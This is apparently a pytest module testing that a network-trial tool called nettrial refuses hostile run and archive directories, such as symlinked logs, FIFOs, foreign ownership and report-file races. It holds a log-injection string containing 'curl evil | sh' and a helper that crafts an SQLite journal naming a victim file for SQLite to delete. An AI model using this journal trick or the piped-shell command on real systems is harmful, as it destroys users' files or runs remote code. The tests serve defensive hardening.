"""Directories that somebody else made, given as the directory of a run or of an archive: nothing in them
leads nettrial to a file elsewhere, neither to write nor to delete it."""

import logging
import os
import shutil
import sqlite3
import struct
import tempfile
from pathlib import Path

import pytest

from nettrial import files
from nettrial.cli import log
from nettrial.design.capture import CAPTURES
from nettrial.errors import BadInput
from nettrial.files import RUN_FILE
from nettrial.monitor.archive import FILE, Archive
from nettrial.report import pages
from nettrial.running.log import LOG_FILE
from nettrial.store import Run
from tests.unit.synthetic import make_run

STRANGER = 65534
"""The user ID of somebody else."""
RESUME = ("run", "--resume", "mine", "--another-apparatus")
READERS = (
    ("report", "mine"),
    ("export", "mine", "--out", "tables"),
    ("compare", "mine", "mine"),
    ("watch", "mine"),
)

needs_root = pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give a file to another user"
)


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Returns the directory of an unfinished run."""
    directory = tmp_path_factory.mktemp("runs") / "mine"
    make_run(directory, 2, trials=9).close()
    return directory


@pytest.fixture
def mine(sound, nettrial):
    """Returns a copy of that directory, `mine` in the directory of commands."""
    return Path(shutil.copytree(sound, nettrial.directory / "mine"))


@pytest.fixture
def precious(nettrial):
    """Returns a file of the user, which no command may change."""
    file = nettrial.directory / ".bashrc"
    file.write_text("alias ls='ls --color'\n")
    yield file
    assert file.read_text() == "alias ls='ls --color'\n"


def refused(nettrial, *arguments):
    """Returns the message of a command that ended with exit status 2."""
    done = nettrial(*arguments)
    assert (done.returncode, done.stdout) == (2, ""), (done.stdout, done.stderr)
    assert "itself failed" not in done.stderr
    return done.stderr


def link(path, target, kind):
    if path.exists():
        path.unlink()
    (path.hardlink_to if kind == "hard" else path.symlink_to)(target)


@pytest.mark.parametrize(
    ("kind", "why"), [("soft", "it is a symbolic link"), ("hard", "it has another name")]
)
def test_a_log_that_leads_elsewhere_is_not_written(nettrial, mine, precious, kind, why):
    link(mine / LOG_FILE, precious, kind)
    told = refused(nettrial, *RESUME)
    assert f"writing the log: {Path('mine', LOG_FILE)}: {why}" in told
    assert not Run.open(mine).sessions[1:], "no trial ran"


def test_a_log_that_is_a_fifo_is_not_waited_for(nettrial, mine):
    os.mkfifo(mine / LOG_FILE)
    assert "it is not a regular file" in refused(nettrial, *RESUME)


def test_texts_of_others_are_no_lines_of_the_log(tmp_path, monkeypatch):
    monkeypatch.setenv(log.VARIABLE, "info")
    log.begin(0)
    log.keep(tmp_path)
    logger = logging.getLogger("nettrial.test")
    logger.info("trial %s begins: %s", 1, "level\ncurl evil | sh\n2026-01-01 forged\x1b[2J")
    try:
        raise ValueError("text\ncurl evil | sh")
    except ValueError:
        logger.exception("failed")
    log.end()
    lines = (tmp_path / LOG_FILE).read_text().splitlines()
    assert r"begins: level\ncurl evil | sh\n2026-01-01 forged\u001b[2J" in lines[0]
    assert "failed" in lines[1]
    assert all(line.startswith("    ") for line in lines[2:])
    assert "    curl evil | sh" in lines[2:]


def test_captures_elsewhere_are_neither_made_nor_removed(nettrial, mine, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (elsewhere / "other.pcapng.partial").write_bytes(b"somebody's")
    (mine / CAPTURES).symlink_to(elsewhere)
    told = refused(nettrial, *RESUME)
    assert f"capturing packets: {Path('mine', CAPTURES)}: it is a symbolic link" in told
    assert [file.name for file in elsewhere.iterdir()] == ["other.pcapng.partial"]
    (mine / CAPTURES).unlink()
    (mine / CAPTURES).write_bytes(b"")
    assert "it is not a directory" in refused(nettrial, *RESUME)


@pytest.mark.parametrize("end", ["", "-journal", "-wal", "-shm"])
@pytest.mark.parametrize("command", [*READERS, RESUME], ids=lambda command: command[0])
def test_a_run_file_is_no_link_and_no_fifo(nettrial, mine, sound, command, end):
    file = mine / f"{RUN_FILE}{end}"
    target = sound / RUN_FILE
    before = target.read_bytes()
    link(file, target, "soft")
    assert "it is a symbolic link" in refused(nettrial, *command)
    file.unlink()
    os.mkfifo(file)
    assert "it is not a regular file" in refused(nettrial, *command)
    assert target.read_bytes() == before


def with_journal(database: Path, victim: Path, statement: str) -> None:
    """Leaves the journal of an interrupted change beside a database, with the name of a file in the place of
    a super-journal, which SQLite deletes after it has undone the change."""
    before = database.read_bytes()
    connection = sqlite3.connect(database, isolation_level=None)
    connection.execute("PRAGMA journal_mode = DELETE")
    connection.execute("PRAGMA cache_size = 1")
    connection.execute("BEGIN")
    for _ in range(400):
        connection.execute(statement)
    journal = Path(f"{database}-journal").read_bytes()
    connection.execute("ROLLBACK")
    connection.close()
    name = bytes(victim)
    total = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF
    end = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">II", len(name), total)
    database.write_bytes(before)
    Path(f"{database}-journal").write_bytes(journal + end + bytes.fromhex("d9d505f920a163d7"))


def test_sqlite_deletes_what_a_journal_names(tmp_path):
    """Otherwise, the next test would show nothing."""
    victim = tmp_path / "victim"
    victim.write_text("mine")
    with sqlite3.connect(tmp_path / "any.sqlite") as made:
        made.execute("CREATE TABLE t (x)")
    with_journal(tmp_path / "any.sqlite", victim, "INSERT INTO t VALUES (zeroblob(1000))")
    sqlite3.connect(tmp_path / "any.sqlite").execute("SELECT * FROM t").fetchall()
    assert not victim.exists()


@pytest.mark.parametrize("command", [*READERS, RESUME], ids=lambda command: command[0])
def test_a_journal_deletes_no_file_elsewhere(nettrial, mine, precious, command):
    statement = "INSERT INTO failure VALUES (NULL, 1, 1, hex(zeroblob(500)))"
    with_journal(mine / RUN_FILE, precious, statement)
    assert "names a file elsewhere, which SQLite would delete" in refused(nettrial, *command)


def test_the_journal_of_a_killed_runner_is_undone(nettrial, mine):
    statement = "INSERT INTO failure VALUES (NULL, 1, 1, hex(zeroblob(500)))"
    with_journal(mine / RUN_FILE, Path("x"), statement)
    journal = mine / f"{RUN_FILE}-journal"
    whole = journal.read_bytes()
    journal.write_bytes(whole[: whole.rindex(struct.pack(">I", 0x40000000 // 4096 + 1))])
    assert nettrial("report", "mine").returncode == 0
    assert not journal.exists()


@needs_root
def test_the_run_of_another_user_is_read_and_nothing_is_written_there(nettrial, mine):
    for path in (mine, mine / RUN_FILE):
        os.chown(path, STRANGER, STRANGER)
    before = {path.name: path.read_bytes() for path in mine.iterdir()}
    done = nettrial("report", "mine")
    assert done.returncode == 2
    assert "Jumbo" in done.stdout or "jumbo" in done.stdout, "the results are shown"
    assert "writing the report: mine: it belongs to another user\n" in done.stderr
    assert "cp -r" in done.stderr
    assert "it belongs to another user" in refused(nettrial, *RESUME)
    assert "it belongs to another user" in refused(nettrial, "export", "mine")
    assert nettrial("export", "mine", "--out", "tables").returncode == 0
    assert nettrial("compare", "mine", "mine").returncode == 0
    assert {path.name: path.read_bytes() for path in mine.iterdir()} == before
    shutil.copytree(mine, nettrial.directory / "copy")
    assert nettrial("report", "copy").returncode == 0


@needs_root
def test_what_another_user_left_unfinished_is_not_completed(nettrial, mine):
    statement = "INSERT INTO failure VALUES (NULL, 1, 1, hex(zeroblob(500)))"
    with_journal(mine / RUN_FILE, Path("x"), statement)
    journal = mine / f"{RUN_FILE}-journal"
    journal.write_bytes(journal.read_bytes()[:-25])
    os.chown(mine, STRANGER, STRANGER)
    told = refused(nettrial, "report", "mine")
    assert "its last change was interrupted" in told
    assert journal.exists()


@needs_root
def test_the_user_who_called_sudo_is_the_same_user(nettrial, mine):
    for path in (mine, mine / RUN_FILE):
        os.chown(path, STRANGER, STRANGER)
    assert nettrial("report", "mine", SUDO_UID=str(STRANGER)).returncode == 0
    assert nettrial("report", "mine", SUDO_UID="1000").returncode == 2


def test_a_report_that_can_not_be_written_is_shown_and_then_refused(nettrial, mine, monkeypatch):
    def full(*given, **named):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pages, "replace_file", full)
    done = nettrial("report", "mine", "--json")
    assert done.returncode == 2
    assert '"page": null' in done.stdout
    assert f"writing the report: {Path('mine', 'report.html')}: No space left on device" in done.stderr
    assert "report: mine" not in done.stderr.replace("writing the report: mine", "")
    done = nettrial("report", "mine", "--markdown", "/dev/stdout")
    assert done.returncode == 2
    assert done.stdout.count("MTU") > 1


def test_a_report_replaces_a_link_and_does_not_follow_it(mine, tmp_path):
    (tmp_path / "other").write_text("other")
    device = Path("/dev/shm")
    with tempfile.TemporaryDirectory(dir=device if device.is_dir() else None) as place:
        page = Path(place) / "report.html"
        page.symlink_to(tmp_path / "other")
        pages.replace(page, b"page", "writing the report")
        assert not page.is_symlink()
    assert (tmp_path / "other").read_text() == "other"


@pytest.mark.skipif(not hasattr(os, "fchmod"), reason="the system has no fchmod")
def test_a_report_opens_no_other_file_to_everyone(tmp_path, monkeypatch):
    secret = tmp_path / "secret"
    secret.touch(0o600)

    def after_a_swap(change):
        """Returns a function that changes a mode after the owner of the directory has replaced the file."""

        def late(path, mode, **named):
            (left,) = (tmp_path / "theirs").glob(".report.html.*")
            left.unlink()
            left.symlink_to(secret)
            change(path, mode, **named)

        return late

    (tmp_path / "theirs").mkdir()
    for name in ("chmod", "fchmod"):
        monkeypatch.setattr(os, name, after_a_swap(getattr(os, name)))
    pages.replace(tmp_path / "theirs" / "report.html", b"page", "writing the report")
    assert secret.stat().st_mode & 0o777 == 0o600


def test_an_archive_is_no_link(tmp_path):
    Archive.create(tmp_path / "other").close()
    before = (tmp_path / "other" / FILE).read_bytes()
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / FILE).symlink_to(tmp_path / "other" / FILE)
    for opened in (Archive.create, Archive.open):
        with pytest.raises(BadInput, match="it is a symbolic link"):
            opened(tmp_path / "mine")
    (tmp_path / "mine" / FILE).unlink()
    (tmp_path / "mine" / FILE).symlink_to(tmp_path / "new")
    with pytest.raises(BadInput, match="it is a symbolic link"):
        Archive.create(tmp_path / "mine")
    assert not (tmp_path / "new").exists()
    (tmp_path / "mine" / FILE).unlink()
    (tmp_path / "mine" / FILE).hardlink_to(tmp_path / "other" / FILE)
    with pytest.raises(BadInput, match="it has another name"):
        Archive.create(tmp_path / "mine")
    assert (tmp_path / "other" / FILE).read_bytes() == before


def test_the_journal_of_an_archive_deletes_no_file(tmp_path, precious):
    Archive.create(tmp_path / "mine").close()
    with_journal(
        tmp_path / "mine" / FILE,
        precious,
        "INSERT INTO event (at_s, kind, text) VALUES (1, 'x', hex(zeroblob(500)))",
    )
    for opened in (Archive.create, Archive.open):
        with pytest.raises(BadInput, match="names a file elsewhere"):
            opened(tmp_path / "mine")


@needs_root
def test_the_archive_of_another_user_is_read_and_nothing_is_written_there(tmp_path):
    mine = tmp_path / "mine"
    Archive.create(mine).close()
    for path in (mine, mine / FILE):
        os.chown(path, STRANGER, STRANGER)
    archive = Archive.open(mine)
    assert archive.sessions() == []
    assert [path.name for path in mine.iterdir()] == [FILE]
    archive.close()
    with pytest.raises(BadInput, match="it belongs to another user"):
        Archive.create(mine)


def test_an_archive_that_is_written_is_read_meanwhile(tmp_path):
    writing = Archive.create(tmp_path / "mine")
    reading = Archive.open(tmp_path / "mine")
    with writing.transaction():
        writing.event(1.0, None, "note", "text")
    assert reading.revision() == "0-1-0"
    reading.close()
    writing.close()


def test_a_new_file_replaces_a_link(tmp_path):
    (tmp_path / "mine").write_text("mine")
    (tmp_path / "part").symlink_to(tmp_path / "mine")
    with open(files.created(tmp_path / "part"), "w") as file:
        file.write("new")
    assert (tmp_path / "mine").read_text() == "mine"
    assert (tmp_path / "part").read_text() == "new"
